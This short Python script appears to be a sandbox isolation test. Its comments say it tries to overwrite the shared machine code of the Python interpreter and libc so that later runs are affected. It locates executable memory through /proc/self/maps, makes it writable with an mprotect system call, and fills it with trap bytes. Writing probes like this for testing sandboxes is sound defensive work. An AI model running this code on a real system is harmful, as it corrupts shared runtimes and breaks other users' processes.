# Tries: to overwrite the machine code of the interpreter, which is shared.
# Success: the next run is affected.
import ctypes

import host

for line in open("/proc/self/maps"):
    fields = line.split()
    if "x" in fields[1] and len(fields) > 5 and ("python" in fields[5] or "libc" in fields[5]):
        low, high = (int(part, 16) for part in fields[0].split("-"))
        if host.syscall(10, low, high - low, 7) == 0:
            ctypes.memset(low, 0xCC, high - low)
